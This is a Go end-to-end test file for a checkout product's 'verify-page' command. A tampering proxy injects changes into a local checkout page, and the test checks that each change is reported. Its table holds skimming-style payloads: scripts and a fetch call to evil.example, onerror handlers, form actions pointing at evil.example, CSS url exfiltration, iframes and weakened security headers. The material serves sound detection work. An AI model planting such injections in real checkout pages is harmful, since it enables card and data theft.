package e2e

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/goccy/go-json"

	"github.com/crepe-checkout/crepe/edge/page"
	"github.com/crepe-checkout/crepe/edge/verifypage"
	"github.com/crepe-checkout/crepe/web"
)

// tampering changes a response. path is the asset whose response it changes; "" for the page.
type tampering struct {
	path   string
	header func(http.Header)
	body   func(string) string
}

// insert adds text before another.
func insert(text, before string) tampering { return replace(before, text+before) }

func replace(old, with string) tampering {
	return tampering{body: func(s string) string { return strings.Replace(s, old, with, 1) }}
}

func header(change func(http.Header)) tampering { return tampering{header: change} }

// tamperings are changes of the page, each with a part of the difference that is reported.
var tamperings = map[string]tampering{
	"unknown script":                          insert(`<script src="https://evil.example/x.js"></script>`, "</head>"),
	"no inline script: unknown script":        insert(`<script>fetch("//evil.example")</script>`, "</body>"),
	"unknown attribute onclick":               replace("<button", `<button onclick="x()"`),
	"unknown attribute onerror":               insert(`<img src="data:," onerror="x()">`, "<form"),
	"unknown attribute action":                replace(`method="post"`, `method="post" action="https://evil.example/"`),
	"unknown attribute formaction":            replace("<button", `<button formaction="https://evil.example/"`),
	"script without the integrity":            {body: func(s string) string { return strings.Replace(s, ` integrity="`+escaped("checkout.js")+`"`, "", 1) }},
	"style without the integrity":             {body: func(s string) string { return strings.Replace(s, ` integrity="`+escaped("checkout.css")+`"`, "", 1) }},
	"unknown style or link":                   insert(`<link rel="stylesheet" href="https://evil.example/x.css">`, "</head>"),
	"unknown element style":                   insert(`<style>input{background:url(//evil.example)}</style>`, "</head>"),
	"unknown attribute style":                 replace("<form", `<form style="background:url(//evil.example)"`),
	"unknown element iframe":                  insert(`<iframe src="https://evil.example/"></iframe>`, "</form>"),
	"unknown element svg":                     insert(`<svg><script>x()</script></svg>`, "</form>"),
	"unknown attribute http-equiv":            insert(`<meta http-equiv="refresh" content="0;url=https://evil.example/">`, "<title>"),
	"unknown attribute href of base":          insert(`<base href="https://evil.example/">`, "<title>"),
	"unknown field cardnumber":                insert(`<input name="cardnumber">`, "</form>"),
	"link":                                    insert(`<a href="javascript:x()">Pay</a>`, "</form>"),
	"image":                                   insert(`<img src="https://evil.example/pixel">`, "</form>"),
	"form: more than one":                     insert(`</form><form id="checkout" method="post"><input name="email"></form>`, "</main>"),
	"another module":                          {body: func(s string) string { return strings.Replace(s, web.Named("checkout.wasm").Integrity, "sha384-x", 1) }},
	"payment page at":                         replace(`"payOrigins":["`, `"payOrigins":["https://evil.example","`),
	"file " + web.Named("checkout.js").URL:    {path: web.Named("checkout.js").URL, body: changed},
	"file " + web.Named("checkout.css").URL:   {path: web.Named("checkout.css").URL, body: changed},
	"file " + web.Named("checkout.wasm").URL:  {path: web.Named("checkout.wasm").URL, body: changed},
	"file " + web.Named("status.js").URL:      {path: web.Named("status.js").URL, body: changed},
	"header SourceMap of /assets/":            {path: web.Named("checkout.js").URL, header: func(h http.Header) { h.Set("SourceMap", "https://evil.example/") }},
	"header X-Content-Type-Options of /":      {path: web.Named("checkout.js").URL, header: func(h http.Header) { h.Del("X-Content-Type-Options") }},
	"header Set-Cookie of the page":           header(func(h http.Header) { h.Set("Set-Cookie", "track=1") }),
	"header Link of the page":                 header(func(h http.Header) { h.Set("Link", "<https://evil.example/x.css>; rel=stylesheet") }),
	"header X-Frame-Options":                  header(func(h http.Header) { h.Del("X-Frame-Options") }),
	"header Referrer-Policy":                  header(func(h http.Header) { h.Set("Referrer-Policy", "unsafe-url") }),
	"header X-Content-Type-Options":           header(func(h http.Header) { h.Del("X-Content-Type-Options") }),
	"header Cache-Control":                    header(func(h http.Header) { h.Set("Cache-Control", "public, max-age=600") }),
	"header Content-Security-Policy":          header(func(h http.Header) { h.Del("Content-Security-Policy") }),
	"Content-Security-Policy script-src":      policy("'self' 'wasm-unsafe-eval'", "'self' 'wasm-unsafe-eval' 'unsafe-inline'"),
	"Content-Security-Policy connect-src":     policy("connect-src 'self'", "connect-src *"),
	"Content-Security-Policy form-action":     policy("form-action 'self'", "form-action 'self' https://evil.example"),
	"Content-Security-Policy frame-ancestors": policy("frame-ancestors 'none'", "frame-ancestors https://evil.example"),
	"Content-Security-Policy trusted-types":   policy("trusted-types 'none'", ""),
	"Content-Security-Policy img-src":         policy("img-src 'self' data:", "img-src 'self' data: https:"),
	"Content-Security-Policy worker-src":      policy("base-uri", "worker-src *; base-uri"),
}

func changed(s string) string { return s[:len(s)-1] + " " }

func policy(old, with string) tampering {
	const name = "Content-Security-Policy"
	return header(func(h http.Header) { h.Set(name, strings.Replace(h.Get(name), old, with, 1)) })
}

// escaped is the integrity of an asset as html/template writes it.
func escaped(name string) string { return strings.ReplaceAll(web.Named(name).Integrity, "+", "&#43;") }

// through runs a proxy that tampers with one response.
func through(t *testing.T, to string, change *tampering) string {
	t.Helper()
	target, err := url.Parse(to)
	if err != nil {
		t.Fatal(err)
	}
	proxy := &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(target)
		r.SetXForwarded()
		r.Out.Header.Set("Accept-Encoding", "identity")
	}}
	proxy.ModifyResponse = func(r *http.Response) error {
		path := r.Request.URL.Path
		if change == nil || path != change.path && !(change.path == "" && strings.Contains(path, "/checkout/")) {
			return nil
		}
		if change.header != nil {
			change.header(r.Header)
		}
		if change.body == nil {
			return nil
		}
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return err
		}
		after := change.body(string(body))
		if after == string(body) {
			return fmt.Errorf("nothing was changed")
		}
		r.Body = io.NopCloser(strings.NewReader(after))
		r.ContentLength = int64(len(after))
		r.Header.Set("Content-Length", strconv.Itoa(len(after)))
		return nil
	}
	server := httptest.NewServer(proxy)
	t.Cleanup(server.Close)
	return server.URL
}

// sellingPage runs crepe serve with a product until the test ends. It returns the server's URL and the path of a permanent link.
func sellingPage(t *testing.T) (server, link string) {
	t.Helper()
	data := initialise(t)
	demo := stock(t, data, makeMerchant(t, data, "Acme").Merchant.ID, 1)[0]
	_, _, server = serveOn(t, data)
	return server, "/store/" + demo.Store.Slug + "/product/" + demo.Products[0].ID + "?test=true&currency=EUR"
}

// TestVerifyPage: the page of this release is clean; each of many changes is reported.
func TestVerifyPage(t *testing.T) {
	t.Parallel()
	server, link := sellingPage(t)
	var o verifypage.Options
	clean, err := verifypage.Run(t.Context(), through(t, server, nil)+link, o)
	if err != nil || clean.Status != verifypage.Clean || len(clean.Checks) < 30 || clean.PageRelease != page.Release() {
		t.Fatalf("%v: %+v", err, clean)
	}
	for want, change := range tamperings {
		_, part, cut := strings.Cut(want, ": ")
		if !cut {
			part = want
		}
		if want == "form: more than one" {
			part = "form"
		}
		report, err := verifypage.Run(t.Context(), through(t, server, &change)+link, o)
		if err != nil {
			t.Errorf("%s: %v", want, err)
			continue
		}
		found := false
		for _, c := range report.Checks {
			found = found || !c.OK && strings.Contains(c.What, part) && c.Do != ""
		}
		if report.Status != verifypage.Different || !found {
			t.Errorf("%s: %s, not found: %+v", want, report.Status, differences(report))
		}
	}
	t.Logf("%d ways to tamper", len(tamperings))
}

func differences(r *verifypage.Report) (list []verifypage.Check) {
	for _, c := range r.Checks {
		if !c.OK {
			list = append(list, c)
		}
	}
	return list
}

// TestVerifyPageCommand: what the command prints, and its status.
func TestVerifyPageCommand(t *testing.T) {
	t.Parallel()
	server, link := sellingPage(t)
	run := func(args ...string) (string, string, bool) {
		var stdout, stderr bytes.Buffer
		c := exec.Command(binary.path, append([]string{"verify-page"}, args...)...)
		c.Stdout, c.Stderr = &stdout, &stderr
		err := c.Run()
		return stdout.String(), stderr.String(), err != nil
	}
	if out, errs, failed := run(server + link); failed || !strings.Contains(out, "ok         file "+web.Named("checkout.wasm").URL) || strings.Contains(out, "DIFFERENT") {
		t.Errorf("%s%s", out, errs)
	}
	if out, errs, failed := run("--quiet", server+link); failed || out+errs != "" {
		t.Errorf("quiet: %s%s", out, errs)
	}
	evil := tamperings["unknown script"]
	if out, errs, failed := run("--quiet", through(t, server, &evil)+link); !failed || !strings.Contains(out, "DIFFERENT  unknown script\n") ||
		!strings.Contains(out, "evil.example") || strings.Contains(out, "ok    ") || !strings.Contains(errs, "differences between the page and this release") {
		t.Errorf("%s%s", out, errs)
	}
	cookie := tamperings["header Set-Cookie of the page"]
	if out, errs, failed := run("--allow-headers", "set-cookie", through(t, server, &cookie)+link); failed {
		t.Errorf("%s%s", out, errs)
	}
	upgraded := replace(page.Release(), "0123456789ab")
	out, errs, failed := run("--json", through(t, server, &upgraded)+link)
	var report verifypage.Report
	if err := json.Unmarshal([]byte(out), &report); err != nil || !failed || report.Status != verifypage.OtherRelease || report.PageRelease != "0123456789ab" ||
		!strings.Contains(errs, "run the verify-page of the crepe that runs there") {
		t.Errorf("%v %s%s", err, out, errs)
	}
	for want, args := range map[string][]string{
		"expected one URL":        {},
		"is not the URL of":       {"pay.example.com"},
		"404 and no checkout":     {server + "/store/none/product/PROD_0355zCbuNcnmfPrShfEVnz"},
		"200 and no checkout":     {server + "/readyz"},
		"refused":                 {"http://127.0.0.1:1/store/x/product/y"},
		"flag provided but not":   {"--verbose", server},
		"it redirects to http://": {redirecting(t) + link},
	} {
		if out, errs, failed := run(args...); !failed || !strings.Contains(errs, want) {
			t.Errorf("%v: %s%s, want %q", args, out, errs, want)
		}
	}
	if out, errs, failed := run("--inventory"); failed || strings.Count(out, "justification:") != len(web.All()) || !strings.Contains(out, page.Release()) {
		t.Errorf("%s%s", out, errs)
	}
}

// TestVerifyPageLook: a store's colours and the origins that may frame it are no difference, if the command is told of the latter.
func TestVerifyPageLook(t *testing.T) {
	t.Parallel()
	const shop = "https://shop.example"
	p := start(t, t.TempDir(), freeAddress(t), "--look", "../cmd/crepe/testdata/look.json", "--frame-origins", shop)
	address, _, _ := strings.Cut(p.url, "#")
	told, err := verifypage.Run(t.Context(), address, verifypage.Options{Frames: []string{shop}})
	if err != nil || told.Status != verifypage.Clean || !slices.ContainsFunc(told.Checks, func(c verifypage.Check) bool { return strings.HasPrefix(c.What, "file /theme/") }) {
		t.Errorf("%v: %+v", err, told)
	}
	untold, err := verifypage.Run(t.Context(), address, verifypage.Options{})
	if err != nil || untold.Status != verifypage.Different || len(differences(untold)) != 3 {
		t.Errorf("%v: %+v", err, differences(untold))
	}
}

// redirecting sends everybody to another host.
func redirecting(t *testing.T) string {
	s := httptest.NewServer(http.RedirectHandler("http://evil.example/", http.StatusFound))
	t.Cleanup(s.Close)
	return s.URL
}
